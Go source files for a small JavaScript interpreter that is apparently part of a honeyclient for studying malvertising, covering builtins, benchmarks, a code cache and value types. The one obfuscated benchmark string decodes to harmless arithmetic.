		return v, nil
	}),
	"shift": newFrozenNative("shift", func(_ *Interp, this Value, _ []Value) (Value, error) {
		a := thisArray(this)
		if a == nil || len(a.Elems) == 0 {
			return Undefined(), nil
		}
		v := a.Elems[0]
		a.Elems = a.Elems[1:]
		return v, nil
	}),
	"unshift": newFrozenNative("unshift", func(_ *Interp, this Value, args []Value) (Value, error) {
		a := thisArray(this)
		if a == nil {
			return Undefined(), nil
		}
		a.Elems = append(append([]Value{}, args...), a.Elems...)
		return Num(float64(len(a.Elems))), nil
	}),
	"join": newFrozenNative("join", func(_ *Interp, this Value, args []Value) (Value, error) {
		a := thisArray(this)
		if a == nil {
			return Str(""), nil
		}
		sep := ","
		if len(args) > 0 {
			sep = ToString(args[0])
		}
		parts := make([]string, len(a.Elems))
		total := 0
		for i, e := range a.Elems {
			if e.isNullish() {
				parts[i] = ""
			} else {
				parts[i] = ToString(e)
			}
			total += len(parts[i]) + len(sep)
			if total > maxStringLen {
				return Value{}, &ThrowError{Value: Str("RangeError: invalid string length")}
			}
		}
		return Str(strings.Join(parts, sep)), nil
	}),
	"reverse": newFrozenNative("reverse", func(_ *Interp, this Value, _ []Value) (Value, error) {
		a := thisArray(this)
		if a == nil {
			return Undefined(), nil
		}
		for i, j := 0, len(a.Elems)-1; i < j; i, j = i+1, j-1 {
			a.Elems[i], a.Elems[j] = a.Elems[j], a.Elems[i]
		}
		return a.Value(), nil
	}),
	"slice": newFrozenNative("slice", func(_ *Interp, this Value, args []Value) (Value, error) {
		a := thisArray(this)
		if a == nil {
			return NewArray().Value(), nil
		}
		start, end := negSliceBounds(len(a.Elems), args)
		if start > end {
			return NewArray().Value(), nil
		}
		out := make([]Value, end-start)
		copy(out, a.Elems[start:end])
		return NewArray(out...).Value(), nil
	}),
	"concat": newFrozenNative("concat", func(_ *Interp, this Value, args []Value) (Value, error) {
		a := thisArray(this)
		if a == nil {
			return NewArray().Value(), nil
		}
		out := append([]Value{}, a.Elems...)
		for _, v := range args {
			if arr := v.Obj(); arr != nil && arr.IsArray {
				out = append(out, arr.Elems...)
			} else {
				out = append(out, v)
			}
		}
		return NewArray(out...).Value(), nil
	}),
	"indexOf": newFrozenNative("indexOf", func(_ *Interp, this Value, args []Value) (Value, error) {
		a := thisArray(this)
		if a == nil {
			return Num(-1), nil
		}
		for i, e := range a.Elems {
			if StrictEquals(e, arg(args, 0)) {
				return Num(float64(i)), nil
			}
		}
		return Num(-1), nil
	}),
	"toString": newFrozenNative("toString", func(_ *Interp, this Value, _ []Value) (Value, error) {
		return Str(ToString(this)), nil
	}),
}

// arrayMember resolves array methods; returns nil when name is not an array
// method so the caller can fall back to plain property lookup.
func arrayMember(name string) *Object {
	return arrayMethods[name]
}

// sliceBounds implements substring-style clamping (negative -> 0, swap if
// start > end).
func sliceBounds(n int, args []Value) (int, int) {
	start := clampIndex(int(ToNumber(arg(args, 0))), n)
	end := n
	if len(args) > 1 {
		if !args[1].IsUndefined() {
			end = clampIndex(int(ToNumber(args[1])), n)
		}
	}
	if start > end {
		start, end = end, start
	}
	return start, end
}

// negSliceBounds implements slice-style bounds where negative indices count
// from the end.
func negSliceBounds(n int, args []Value) (int, int) {
	start := 0
	if len(args) > 0 {
		start = int(ToNumber(args[0]))
	}
	end := n
	if len(args) > 1 {
		if !args[1].IsUndefined() {
			end = int(ToNumber(args[1]))
		}
	}
	if start < 0 {
		start += n
	}
	if end < 0 {
		end += n
	}
	return clampIndex(start, n), clampIndex(end, n)
}

func clampIndex(i, n int) int {
	if i < 0 {
		return 0
	}
	if i > n {
		return n
	}
	return i
}
