package minijs

import (
	"math"
	"strings"
)

// installBuiltins defines the standard global bindings every execution
// context gets: Math, String, parseInt/parseFloat, isNaN, escape/unescape,
// URI coders, eval, and the Array/Function tag objects used by instanceof.
//
// Math.random is deterministic (a fixed-seed LCG) so that crawls are
// reproducible; the embedding browser replaces it with a stream derived from
// the simulation seed.
func installBuiltins(in *Interp) {
	g := in.Global

	g.Define("NaN", math.NaN())
	g.Define("Infinity", math.Inf(1))

	// Math -------------------------------------------------------------
	mathObj := NewObject()
	mathObj.Name = "Math"
	mathObj.Props["PI"] = math.Pi
	mathObj.Props["E"] = math.E
	rngState := uint64(0x9e3779b97f4a7c15)
	mathObj.Props["random"] = NewNative("random", func(_ *Interp, _ Value, _ []Value) (Value, error) {
		rngState = rngState*6364136223846793005 + 1442695040888963407
		return float64(rngState>>11) / (1 << 53), nil
	})
	unary := func(name string, f func(float64) float64) {
		mathObj.Props[name] = NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			return f(ToNumber(arg(args, 0))), nil
		})
	}
	unary("floor", math.Floor)
	unary("ceil", math.Ceil)
	unary("round", func(f float64) float64 { return math.Floor(f + 0.5) })
	unary("abs", math.Abs)
	unary("sqrt", math.Sqrt)
	unary("log", math.Log)
	unary("exp", math.Exp)
	unary("sin", math.Sin)
	unary("cos", math.Cos)
	mathObj.Props["pow"] = NewNative("pow", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return math.Pow(ToNumber(arg(args, 0)), ToNumber(arg(args, 1))), nil
	})
	mathObj.Props["max"] = NewNative("max", func(_ *Interp, _ Value, args []Value) (Value, error) {
		out := math.Inf(-1)
		for _, a := range args {
			out = math.Max(out, ToNumber(a))
		}
		return out, nil
	})
	mathObj.Props["min"] = NewNative("min", func(_ *Interp, _ Value, args []Value) (Value, error) {
		out := math.Inf(1)
		for _, a := range args {
			out = math.Min(out, ToNumber(a))
		}
		return out, nil
	})
	g.Define("Math", mathObj)

	// String -----------------------------------------------------------
	stringObj := NewNative("String", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return ToString(arg(args, 0)), nil
	})
	stringObj.Props["fromCharCode"] = NewNative("fromCharCode", func(_ *Interp, _ Value, args []Value) (Value, error) {
		var b strings.Builder
		for _, a := range args {
			b.WriteRune(rune(int(ToNumber(a))))
		}
		return b.String(), nil
	})
	g.Define("String", stringObj)

	// Number, Boolean, Array, Object, Function constructors -------------
	g.Define("Number", NewNative("Number", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return ToNumber(arg(args, 0)), nil
	}))
	g.Define("Boolean", NewNative("Boolean", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return Truthy(arg(args, 0)), nil
	}))
	arrayCtor := NewNative("Array", func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 1 {
			if n, ok := args[0].(float64); ok && n == math.Trunc(n) && n >= 0 {
				if n >= maxArrayLen {
					return nil, &ThrowError{Value: "RangeError: invalid array length"}
				}
				elems := make([]Value, int(n))
				for i := range elems {
					elems[i] = Undefined{}
				}
				return NewArray(elems...), nil
			}
		}
		return NewArray(args...), nil
	})
	g.Define("Array", arrayCtor)
	g.Define("Object", NewNative("Object", func(_ *Interp, _ Value, _ []Value) (Value, error) {
		return NewObject(), nil
	}))
	g.Define("Function", NewNative("Function", func(_ *Interp, _ Value, _ []Value) (Value, error) {
		return nil, &ThrowError{Value: "TypeError: Function constructor is disabled"}
	}))

	// Global functions ---------------------------------------------------
	g.Define("parseInt", NewNative("parseInt", func(_ *Interp, _ Value, args []Value) (Value, error) {
		radix := 0
		if len(args) > 1 {
			radix = int(ToNumber(args[1]))
		}
		return parseIntValue(ToString(arg(args, 0)), radix), nil
	}))
	g.Define("parseFloat", NewNative("parseFloat", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return ToNumber(ToString(arg(args, 0))), nil
	}))
	g.Define("isNaN", NewNative("isNaN", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return math.IsNaN(ToNumber(arg(args, 0))), nil
	}))
	g.Define("escape", NewNative("escape", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return jsEscape(ToString(arg(args, 0))), nil
	}))
	g.Define("unescape", NewNative("unescape", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return jsUnescape(ToString(arg(args, 0))), nil
	}))
	g.Define("encodeURIComponent", NewNative("encodeURIComponent", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return jsEncodeURIComponent(ToString(arg(args, 0))), nil
	}))
	g.Define("decodeURIComponent", NewNative("decodeURIComponent", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return jsDecodeURIComponent(ToString(arg(args, 0))), nil
	}))

	// eval executes in the global scope (the only scope the dialect's eval
	// supports). Obfuscated malvertising payloads decode a string and eval
	// it; the honeyclient sees through this because the decoded program runs
	// in the same instrumented interpreter.
	g.Define("eval", NewNative("eval", func(in *Interp, _ Value, args []Value) (Value, error) {
		src, ok := arg(args, 0).(string)
		if !ok {
			return arg(args, 0), nil
		}
		prog, err := Parse(src)
		if err != nil {
			return nil, &ThrowError{Value: "SyntaxError: " + err.Error()}
		}
		return in.RunProgram(prog)
	}))
}

// arg returns args[i] or Undefined.
func arg(args []Value, i int) Value {
	if i < len(args) {
		return args[i]
	}
	return Undefined{}
}

// stringMember resolves properties and methods on string primitives.
func stringMember(s, name string) Value {
	switch name {
	case "length":
		return float64(len(s))
	case "charAt":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			i := int(ToNumber(arg(args, 0)))
			if i < 0 || i >= len(s) {
				return "", nil
			}
			return string(s[i]), nil
		})
	case "charCodeAt":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			i := int(ToNumber(arg(args, 0)))
			if i < 0 || i >= len(s) {
				return math.NaN(), nil
			}
			return float64(s[i]), nil
		})
	case "indexOf":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			return float64(strings.Index(s, ToString(arg(args, 0)))), nil
		})
	case "lastIndexOf":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			return float64(strings.LastIndex(s, ToString(arg(args, 0)))), nil
		})
	case "substring":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			start, end := sliceBounds(len(s), args)
			return s[start:end], nil
		})
	case "substr":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			start := clampIndex(int(ToNumber(arg(args, 0))), len(s))
			length := len(s) - start
			if len(args) > 1 {
				length = int(ToNumber(args[1]))
			}
			if length < 0 {
				length = 0
			}
			if start+length > len(s) {
				length = len(s) - start
			}
			return s[start : start+length], nil
		})
	case "slice":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			start, end := negSliceBounds(len(s), args)
			if start > end {
				return "", nil
			}
			return s[start:end], nil
		})
	case "toUpperCase":
		return NewNative(name, func(_ *Interp, _ Value, _ []Value) (Value, error) {
			return strings.ToUpper(s), nil
		})
	case "toLowerCase":
		return NewNative(name, func(_ *Interp, _ Value, _ []Value) (Value, error) {
			return strings.ToLower(s), nil
		})
	case "split":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			if len(args) == 0 {
				return NewArray(s), nil
			}
			sep := ToString(args[0])
			var parts []string
			if sep == "" {
				for i := 0; i < len(s); i++ {
					parts = append(parts, string(s[i]))
				}
			} else {
				parts = strings.Split(s, sep)
			}
			elems := make([]Value, len(parts))
			for i, p := range parts {
				elems[i] = p
			}
			return NewArray(elems...), nil
		})
	case "replace":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			repl := ToString(arg(args, 1))
			// Regex patterns honor the g flag; string patterns replace the
			// first match like JavaScript's string-pattern replace.
			if rr, ok := regexArg(arg(args, 0)); ok {
				return regexReplace(s, rr, repl), nil
			}
			old := ToString(arg(args, 0))
			return strings.Replace(s, old, repl, 1), nil
		})
	case "match":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			rr, ok := regexArg(arg(args, 0))
			if !ok {
				return Null{}, nil
			}
			re, ok := rr.re()
			if !ok {
				return Null{}, nil
			}
			if rr.global {
				ms := re.FindAllString(s, -1)
				if ms == nil {
					return Null{}, nil
				}
				elems := make([]Value, len(ms))
				for i, m := range ms {
					elems[i] = m
				}
				return NewArray(elems...), nil
			}
			loc := re.FindStringSubmatchIndex(s)
			if loc == nil {
				return Null{}, nil
			}
			res := NewArray()
			for i := 0; i*2 < len(loc); i++ {
				if loc[i*2] < 0 {
					res.Elems = append(res.Elems, Undefined{})
				} else {
					res.Elems = append(res.Elems, s[loc[i*2]:loc[i*2+1]])
				}
			}
			res.Props["index"] = float64(loc[0])
			res.Props["input"] = s
			return res, nil
		})
	case "search":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			rr, ok := regexArg(arg(args, 0))
			if !ok {
				return float64(strings.Index(s, ToString(arg(args, 0)))), nil
			}
			re, ok := rr.re()
			if !ok {
				return float64(-1), nil
			}
			loc := re.FindStringIndex(s)
			if loc == nil {
				return float64(-1), nil
			}
			return float64(loc[0]), nil
		})
	case "concat":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			out := s
			for _, a := range args {
				out += ToString(a)
			}
			return out, nil
		})
	case "trim":
		return NewNative(name, func(_ *Interp, _ Value, _ []Value) (Value, error) {
			return strings.TrimSpace(s), nil
		})
	case "toString":
		return NewNative(name, func(_ *Interp, _ Value, _ []Value) (Value, error) {
			return s, nil
		})
	}
	return Undefined{}
}

// numberMember resolves methods on number primitives.
func numberMember(n float64, name string) Value {
	switch name {
	case "toString":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			if len(args) > 0 {
				radix := int(ToNumber(args[0]))
				if radix >= 2 && radix <= 36 && n == math.Trunc(n) {
					return formatIntRadix(int64(n), radix), nil
				}
			}
			return formatNumber(n), nil
		})
	case "toFixed":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			digits := int(ToNumber(arg(args, 0)))
			if digits < 0 || digits > 20 {
				digits = 0
			}
			pow := math.Pow(10, float64(digits))
			rounded := math.Floor(n*pow+0.5) / pow
			s := formatNumber(rounded)
			if digits > 0 && !strings.Contains(s, ".") {
				s += "." + strings.Repeat("0", digits)
			}
			return s, nil
		})
	}
	return Undefined{}
}

func formatIntRadix(n int64, radix int) string {
	const digits = "0123456789abcdefghijklmnopqrstuvwxyz"
	if n == 0 {
		return "0"
	}
	neg := n < 0
	if neg {
		n = -n
	}
	var b []byte
	for n > 0 {
		b = append([]byte{digits[n%int64(radix)]}, b...)
		n /= int64(radix)
	}
	if neg {
		return "-" + string(b)
	}
	return string(b)
}

// arrayMember resolves array methods; returns nil when name is not an array
// method so the caller can fall back to plain property lookup.
func arrayMember(a *Object, name string) Value {
	switch name {
	case "push":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			a.Elems = append(a.Elems, args...)
			return float64(len(a.Elems)), nil
		})
	case "pop":
		return NewNative(name, func(_ *Interp, _ Value, _ []Value) (Value, error) {
			if len(a.Elems) == 0 {
				return Undefined{}, nil
			}
			v := a.Elems[len(a.Elems)-1]
			a.Elems = a.Elems[:len(a.Elems)-1]
			return v, nil
		})
	case "shift":
		return NewNative(name, func(_ *Interp, _ Value, _ []Value) (Value, error) {
			if len(a.Elems) == 0 {
				return Undefined{}, nil
			}
			v := a.Elems[0]
			a.Elems = a.Elems[1:]
			return v, nil
		})
	case "unshift":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			a.Elems = append(append([]Value{}, args...), a.Elems...)
			return float64(len(a.Elems)), nil
		})
	case "join":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			sep := ","
			if len(args) > 0 {
				sep = ToString(args[0])
			}
			parts := make([]string, len(a.Elems))
			total := 0
			for i, e := range a.Elems {
				if isNullish(e) {
					parts[i] = ""
				} else {
					parts[i] = ToString(e)
				}
				total += len(parts[i]) + len(sep)
				if total > maxStringLen {
					return nil, &ThrowError{Value: "RangeError: invalid string length"}
				}
			}
			return strings.Join(parts, sep), nil
		})
	case "reverse":
		return NewNative(name, func(_ *Interp, _ Value, _ []Value) (Value, error) {
			for i, j := 0, len(a.Elems)-1; i < j; i, j = i+1, j-1 {
				a.Elems[i], a.Elems[j] = a.Elems[j], a.Elems[i]
			}
			return a, nil
		})
	case "slice":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			start, end := negSliceBounds(len(a.Elems), args)
			if start > end {
				return NewArray(), nil
			}
			out := make([]Value, end-start)
			copy(out, a.Elems[start:end])
			return NewArray(out...), nil
		})
	case "concat":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			out := append([]Value{}, a.Elems...)
			for _, v := range args {
				if arr, ok := v.(*Object); ok && arr.IsArray {
					out = append(out, arr.Elems...)
				} else {
					out = append(out, v)
				}
			}
			return NewArray(out...), nil
		})
	case "indexOf":
		return NewNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			for i, e := range a.Elems {
				if StrictEquals(e, arg(args, 0)) {
					return float64(i), nil
				}
			}
			return float64(-1), nil
		})
	case "toString":
		return NewNative(name, func(_ *Interp, _ Value, _ []Value) (Value, error) {
			return ToString(a), nil
		})
	}
	return nil
}

// sliceBounds implements substring-style clamping (negative -> 0, swap if
// start > end).
func sliceBounds(n int, args []Value) (int, int) {
	start := clampIndex(int(ToNumber(arg(args, 0))), n)
	end := n
	if len(args) > 1 {
		if _, und := args[1].(Undefined); !und {
			end = clampIndex(int(ToNumber(args[1])), n)
		}
	}
	if start > end {
		start, end = end, start
	}
	return start, end
}

// negSliceBounds implements slice-style bounds where negative indices count
// from the end.
func negSliceBounds(n int, args []Value) (int, int) {
	start := 0
	if len(args) > 0 {
		start = int(ToNumber(args[0]))
	}
	end := n
	if len(args) > 1 {
		if _, und := args[1].(Undefined); !und {
			end = int(ToNumber(args[1]))
		}
	}
	if start < 0 {
		start += n
	}
	if end < 0 {
		end += n
	}
	return clampIndex(start, n), clampIndex(end, n)
}

func clampIndex(i, n int) int {
	if i < 0 {
		return 0
	}
	if i > n {
		return n
	}
	return i
}
