package minijs

import "testing"

const benchAdScript = `
var land = "http://www.example.com/offer?c=cmp-00042&imp=deadbeef";
document = { write: function(s) { return s.length; } };
var parts = [];
for (var i = 0; i < 20; i++) {
	parts.push('<a href="' + land + '&i=' + i + '">ad</a>');
}
var html = parts.join("");
var total = 0;
for (var j = 0; j < parts.length; j++) {
	total += parts[j].length;
}
total
`

func BenchmarkLex(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := Lex(benchAdScript); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkParse(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := Parse(benchAdScript); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkRunAdScript(b *testing.B) {
	prog, err := Parse(benchAdScript)
	if err != nil {
		b.Fatal(err)
	}
	for i := 0; i < b.N; i++ {
		in := New()
		if _, err := in.RunProgram(prog); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkRunObfuscated(b *testing.B) {
	// The classic malvertising layer: eval(unescape("...")).
	src := `eval(unescape("%76%61%72%20%78%20%3d%20%31%3b%20%76%61%72%20%79%20%3d%20%78%20%2a%20%34%32%3b%20%79"))`
	for i := 0; i < b.N; i++ {
		in := New()
		v, err := in.Run(src)
		if err != nil {
			b.Fatal(err)
		}
		if !v.IsNumber() || v.Num() != 42 {
			b.Fatalf("v = %v", v)
		}
	}
}

func BenchmarkClosureCalls(b *testing.B) {
	in := New()
	v, err := in.Run(`
		function adder(x) { return function(y) { return x + y; }; }
		adder(10)
	`)
	if err != nil {
		b.Fatal(err)
	}
	args := []Value{Num(32)}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		in.Budget = DefaultBudget
		out, err := in.CallFunction(v, Undefined(), args)
		if err != nil {
			b.Fatal(err)
		}
		if !out.IsNumber() || out.Num() != 42 {
			b.Fatal("wrong result")
		}
	}
}
