package minijs

// codecache.go caches compiled programs by script content hash through
// cachex. The honeyclient replays the same ad scripts constantly; keying on
// sha256(source) lets every page that embeds a script share one parse and
// one compile. Deterministic outcomes — a compiled program, a recovered
// partial parse, or a strict-mode syntax error — are cached (the error
// negatively, so a broken script is rejected once, not re-parsed per page).
// A compile truncated by context cancellation is NOT deterministic output:
// it propagates as a plain error, which cachex.GetOrLoad delivers without
// storing — the same reproducibility gate the honeyclient applies with
// ErrSkipStore.

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"io"

	"madave/internal/cachex"
	"madave/internal/telemetry"
)

// DefaultCodeCacheEntries bounds the number of distinct scripts kept
// compiled. Ad corpora reuse a small set of creatives; 4k entries covers a
// full simulated study many times over.
const DefaultCodeCacheEntries = 1 << 12

// cachedScript is one cache entry: either a compiled (or tree-walk
// fallback) program plus any recovery diagnostics, or a deterministic
// strict-mode syntax error.
type cachedScript struct {
	prog *Program
	errs []*SyntaxError
	err  error
}

// CodeCache maps script source hashes to compiled programs. Safe for
// concurrent use; a cached *Program is read-only after publication and may
// be executed by many interpreters at once.
type CodeCache struct {
	c        *cachex.Cache[string, *cachedScript]
	compiles *telemetry.Counter
	fallback *telemetry.Counter
}

// NewCodeCache builds a code cache with the given capacity (0 =
// DefaultCodeCacheEntries). Cache hit/miss counters land in tel under
// cache="minijs_code"; compile counts under minijs_compile_total.
func NewCodeCache(capacity int, tel *telemetry.Set) *CodeCache {
	if capacity <= 0 {
		capacity = DefaultCodeCacheEntries
	}
	cc := &CodeCache{
		c: cachex.New[string, *cachedScript](cachex.Config{
			Capacity: capacity,
			Name:     "minijs_code",
			Tel:      tel,
		}),
	}
	if tel != nil {
		cc.compiles = tel.Counter("minijs_compile_total")
		cc.fallback = tel.Counter("minijs_compile_fallback_total")
	}
	return cc
}

// Load returns the compiled program for src, parsing and compiling on the
// first sight of a script hash. In tolerant mode the recovered parse's
// diagnostics are returned alongside the (never nil) program; in strict
// mode a syntax error is returned as err. ctx bounds compilation: a
// cancelled compile returns ctx's error and caches nothing.
func (cc *CodeCache) Load(ctx context.Context, src string, tolerant bool) (*Program, []*SyntaxError, error) {
	mode := byte('s')
	if tolerant {
		mode = 't'
	}
	// Hash the source without the []byte(src) copy, and assemble the
	// "m:hex" key in a stack buffer: one allocation (the key string) per
	// lookup regardless of script size.
	h := sha256.New()
	io.WriteString(h, src)
	var sum [sha256.Size]byte
	h.Sum(sum[:0])
	var keyBuf [2 + 2*sha256.Size]byte
	keyBuf[0], keyBuf[1] = mode, ':'
	hex.Encode(keyBuf[2:], sum[:])
	key := string(keyBuf[:])
	cs, err := cc.c.GetOrLoad(key, func() (*cachedScript, error) {
		return cc.compile(ctx, src, tolerant)
	})
	if err != nil {
		return nil, nil, err
	}
	return cs.prog, cs.errs, cs.err
}

func (cc *CodeCache) compile(ctx context.Context, src string, tolerant bool) (*cachedScript, error) {
	var prog *Program
	var errs []*SyntaxError
	if tolerant {
		prog, errs = ParseTolerant(src)
	} else {
		var err error
		prog, err = Parse(src)
		if err != nil {
			// A syntax error is a pure function of the source: cache it so
			// the same broken script is rejected without re-parsing.
			return &cachedScript{err: err}, nil
		}
	}
	if cc.compiles != nil {
		cc.compiles.Inc()
	}
	if cerr := CompileProgram(ctx, prog); cerr != nil {
		if ctx != nil && ctx.Err() != nil {
			// Deadline-truncated: the partial program must never be
			// published. A plain error makes GetOrLoad deliver without
			// storing, so a later caller retries with a live context.
			return nil, cerr
		}
		// Deterministic compiler rejection (AST shape outside the bytecode
		// subset): cache the uncompiled program; RunProgram falls back to
		// the tree-walker, which handles everything the parser accepts.
		if cc.fallback != nil {
			cc.fallback.Inc()
		}
	}
	return &cachedScript{prog: prog, errs: errs}, nil
}

// Stats snapshots the underlying cache counters.
func (cc *CodeCache) Stats() cachex.Stats { return cc.c.Stats() }
