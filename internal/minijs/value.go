package minijs

import (
	"math"
	"sort"
	"strconv"
	"strings"
)

// Kind discriminates the tagged Value representation.
type Kind uint8

const (
	// KindEmpty is the zero Value: "no completion value" inside the
	// engines. It is never observable from scripts; every conversion and
	// comparison treats it exactly like undefined, so an accidental leak is
	// behaviour-preserving.
	KindEmpty Kind = iota
	KindUndefined
	KindNull
	KindBool
	KindNumber
	KindString
	KindObject
	// kindIter marks the VM's for-in placeholder slot on the value stack;
	// the iterator state itself lives on the machine's side stack.
	kindIter
)

// Value is a runtime value of the interpreter: a tagged struct instead of an
// interface, so numbers, booleans and strings move through the VM stack,
// property maps and native-call boundaries without boxing allocations.
//
// The representation is: kind tag, float64 payload (numbers; booleans as
// 0/1), string payload, and an *Object payload for heap values. Value is
// comparable (used as a constant-pool key), but note NaN: a Value holding
// NaN does not == itself, mirroring the float it carries.
type Value struct {
	kind Kind
	num  float64
	str  string
	obj  *Object
}

// Undefined returns the undefined value. (In earlier revisions Undefined was
// a struct type; the constructor keeps call sites reading the same.)
func Undefined() Value { return Value{kind: KindUndefined} }

// Null returns the null value.
func Null() Value { return Value{kind: KindNull} }

// Bool wraps a Go bool.
func Bool(b bool) Value {
	if b {
		return Value{kind: KindBool, num: 1}
	}
	return Value{kind: KindBool}
}

// Num wraps a Go float64.
func Num(f float64) Value { return Value{kind: KindNumber, num: f} }

// Str wraps a Go string.
func Str(s string) Value { return Value{kind: KindString, str: s} }

// ObjValue wraps an *Object (nil becomes undefined).
func ObjValue(o *Object) Value {
	if o == nil {
		return Value{kind: KindUndefined}
	}
	return Value{kind: KindObject, obj: o}
}

// Value wraps o as a Value, so construction sites read naturally.
func (o *Object) Value() Value { return ObjValue(o) }

// Kind returns the value's kind; KindEmpty reads as KindUndefined.
func (v Value) Kind() Kind {
	if v.kind == KindEmpty {
		return KindUndefined
	}
	return v.kind
}

// IsUndefined reports whether v is undefined (or the internal empty value).
func (v Value) IsUndefined() bool { return v.kind == KindEmpty || v.kind == KindUndefined }

// IsNull reports whether v is null.
func (v Value) IsNull() bool { return v.kind == KindNull }

// IsBool reports whether v is a boolean.
func (v Value) IsBool() bool { return v.kind == KindBool }

// IsNumber reports whether v is a number.
func (v Value) IsNumber() bool { return v.kind == KindNumber }

// IsString reports whether v is a string.
func (v Value) IsString() bool { return v.kind == KindString }

// IsObject reports whether v is an object.
func (v Value) IsObject() bool { return v.kind == KindObject }

// Num returns the raw float64 payload (0 unless IsNumber/IsBool).
func (v Value) Num() float64 { return v.num }

// Str returns the raw string payload ("" unless IsString).
func (v Value) Str() string { return v.str }

// Bool returns the raw boolean payload.
func (v Value) Bool() bool { return v.num != 0 }

// Obj returns the object payload, or nil when v is not an object.
func (v Value) Obj() *Object {
	if v.kind != KindObject {
		return nil
	}
	return v.obj
}

// isNullish reports undefined/null (and the internal empty value).
func (v Value) isNullish() bool { return v.kind <= KindNull }

// NativeFunc is a Go function exposed to scripts. this is the receiver for
// method calls (Undefined() for plain calls).
type NativeFunc func(interp *Interp, this Value, args []Value) (Value, error)

// Object is the heap object type: plain objects, arrays, and functions.
type Object struct {
	// Props holds named properties. It is allocated lazily by Set; readers
	// must tolerate nil (Get does).
	Props map[string]Value
	// Elems holds array elements when IsArray is true.
	Elems   []Value
	IsArray bool

	// frozen marks shared singleton objects (primitive method natives,
	// shared builtins). Set and delete are silently ignored, which keeps
	// the old per-call-closure observable behaviour (writes to a method
	// object were never visible on the next property access) while letting
	// concurrent interpreters share one instance without data races.
	frozen bool

	// Fn is set for user-defined functions.
	Fn *FuncLit
	// Env is the closure environment for user-defined functions.
	Env *Env
	// Native is set for Go-implemented functions.
	Native NativeFunc
	// Name is a diagnostic name for functions and host objects.
	Name string

	// GetTrap, if non-nil, intercepts property reads before Props is
	// consulted. Host objects use it (e.g. location.href reflecting
	// navigation state).
	GetTrap func(name string) (Value, bool)
	// SetTrap, if non-nil, intercepts property writes. Returning true means
	// the write was handled; false stores into Props normally. This is how
	// the browser observes `top.location = url` — the link-hijacking channel
	// from the paper's §2.3.
	SetTrap func(name string, v Value) bool

	// rx is set on regex objects (see regex.go); string methods use it to
	// recognize a regex argument.
	rx *regexRuntime
}

// NewObject returns an empty plain object with an eager Props map (object
// literals and constructors write properties immediately).
func NewObject() *Object {
	return &Object{Props: map[string]Value{}}
}

// objChunk is the granularity of the interpreter's object arena. Object
// headers are allocated in blocks of this many; one live object keeps its
// whole block reachable, which is fine because every object an interpreter
// makes shares the interpreter's lifetime anyway.
const objChunk = 64

// alloc carves one object header out of the interpreter's chunked arena.
// A page script allocates a few dozen objects (host environment, literals,
// constructor instances); the arena turns those into one-ish heap
// allocation per chunk instead of one per object. Arena chunks are never
// reused or reset — pointer stability and GC do the rest.
func (in *Interp) alloc() *Object {
	if len(in.objArena) == cap(in.objArena) {
		// Chunks grow 8 → 16 → 32 → 64 so short scripts (the common case in
		// ad creatives) don't strand most of a full-size chunk.
		c := cap(in.objArena) * 2
		if c < 8 {
			c = 8
		}
		if c > objChunk {
			c = objChunk
		}
		in.objArena = make([]Object, 0, c)
	}
	in.objArena = append(in.objArena, Object{})
	return &in.objArena[len(in.objArena)-1]
}

// NewObject is the arena-backed NewObject for objects whose lifetime is
// bounded by the interpreter (which is all of them in practice).
func (in *Interp) NewObject() *Object {
	o := in.alloc()
	o.Props = map[string]Value{}
	return o
}

// NewArray is the arena-backed NewArray. The elems slice is retained.
func (in *Interp) NewArray(elems ...Value) *Object {
	o := in.alloc()
	o.Elems = elems
	o.IsArray = true
	return o
}

// NewNative is the arena-backed NewNative (lazy Props, like NewNative).
func (in *Interp) NewNative(name string, fn NativeFunc) *Object {
	o := in.alloc()
	o.Native = fn
	o.Name = name
	return o
}

// NewArray returns an array object with the given elements. The Props map is
// lazy; the elems slice is retained, not copied.
func NewArray(elems ...Value) *Object {
	return &Object{Elems: elems, IsArray: true}
}

// NewNative wraps a Go function as a callable object. The Props map is lazy.
func NewNative(name string, fn NativeFunc) *Object {
	return &Object{Native: fn, Name: name}
}

// newFrozenNative wraps a Go function as a shared, frozen callable; safe for
// concurrent use from many interpreters because writes are ignored.
func newFrozenNative(name string, fn NativeFunc) *Object {
